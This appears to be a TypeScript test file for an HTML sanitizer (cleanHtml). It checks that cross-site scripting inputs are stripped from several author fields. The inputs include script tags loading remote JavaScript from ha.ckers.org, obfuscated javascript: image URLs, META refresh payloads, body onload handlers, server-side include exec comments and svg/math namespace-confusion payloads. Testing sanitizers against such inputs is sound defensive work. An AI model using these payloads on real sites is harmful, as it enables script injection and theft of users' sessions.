import assert from "node:assert/strict";
import { test } from "node:test";
import { type AuthorField, cleanHtml } from "./index.ts";

const everyField: readonly AuthorField[] = ["content", "notes", "summary", "comment", "profile"];

function inEveryField(source: string, hold: (clean: string) => void): void {
  for (const field of everyField) hold(cleanHtml(source, field, { siteUrl: "https://archive.test" }));
}

function becomes(source: string, expected: string): void {
  inEveryField(source, (clean) => assert.equal(clean, expected));
}

test("a made-up tag goes and the signs around it stay", () => {
  becomes("'';!--\"<XSS>=&{()}", "<p>'';!--\"=&amp;{()}</p>");
});

const scripts = [
  "<SCRIPT SRC=http://ha.ckers.org/xss.js></SCRIPT>",
  '<SCRIPT/XSS SRC="http://ha.ckers.org/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="http://ha.ckers.org/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  "<SCRIPT SRC=http://ha.ckers.org/xss.js?<B>",
  "<SCRIPT SRC=//ha.ckers.org/.j>",
  '<SCRIPT a=">" SRC="http://ha.ckers.org/xss.js"></SCRIPT>',
];
for (const source of scripts) {
  test(`neither script nor host remains of ${source}`, () => {
    inEveryField(source, (clean) => assert.doesNotMatch(clean, /script|ckers|alert/i));
  });
}

test("text that looks like an attack is text", () => {
  becomes("xss:expression(alert('XSS'))", "<p>xss:expression(alert('XSS'))</p>");
  becomes("@import'http://ha.ckers.org/xss.css';", "<p>@import'http://ha.ckers.org/xss.css';</p>");
});

test("an unfinished iframe is gone", () => {
  becomes("<iframe src=http://ha.ckers.org/scriptlet.html <", "");
  becomes("<iframe src=http://ha.ckers.org/scriptlet.html>", "");
});

const images = [
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  "<IMG SRC=\"javascript:alert('XSS')\"",
  '<IMG """><IMG SRC="jav\u0000ascript:alert(1)">',
];
for (const source of images) {
  test(`no javascript remains of ${JSON.stringify(source)}`, () => {
    inEveryField(source, (clean) => assert.doesNotMatch(clean, /<img|<[^>]*javascript/i));
  });
}

const metas = [
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(1);">',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=&lt;SCRIPT&gt;alert(1)&lt;/SCRIPT&gt;">',
  '<META HTTP-EQUIV="Link" Content="<http://ha.ckers.org/xss.css>; REL=stylesheet">',
];
for (const source of metas) test(`nothing remains of ${source}`, () => becomes(source, ""));

test("the page's own element cannot be given handlers or a background", () => {
  for (const tag of [
    "BODY ONLOAD=alert(1)",
    'BODY BACKGROUND="javascript:alert(1)"',
    "BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)",
  ]) {
    becomes(`<${tag}>`, "");
  }
});

test("a style sheet in the text is gone", () => {
  becomes("<STYLE>@import'http://ha.ckers.org/xss.css';</STYLE>", "");
});

test("forgotten attributes and elements that loaded things are gone", () => {
  becomes('<IMG DYNSRC="javascript:alert(1)">', "");
  becomes('<BGSOUND SRC="javascript:alert(1);">', "");
  becomes('<BR SIZE="&{alert(1)}">', "");
  becomes('<LINK REL="stylesheet" HREF="javascript:alert(1);">', "");
});

test("foreign namespaces and processing instructions go and the text stays", () => {
  becomes(
    '<HTML xmlns:xss><?import namespace="xss" implementation="http://ha.ckers.org/xss.htc"><xss:xss>Blah</xss:xss></HTML>',
    "<p>Blah</p>",
  );
});

test("a style attribute is gone", () => {
  becomes('<span style="background-image: url(javascript:alert(1))">Text</span>', "<p><span>Text</span></p>");
});

test("a server-side include is a comment, and comments are nothing", () => {
  becomes(
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://x/xss.js></SCRIPT>'\"-->",
    "",
  );
});

for (const name of ["math", "svg", "xmp", "plaintext"]) {
  test(`${name} goes with everything in it`, () => becomes(`<${name}>text</${name}>`, ""));
}

for (const outer of ["math", "svg"]) {
  for (const inner of ["iframe", "noembed", "noframes", "noscript", "plaintext", "script", "style", "xmp"]) {
    test(`an encoded end of ${inner} inside ${outer} lets nothing out`, () => {
      becomes(`<${outer}><${inner}>/*&lt;/${inner}&gt;&lt;img src onerror=alert(1)>*/`, "");
    });
  }
}
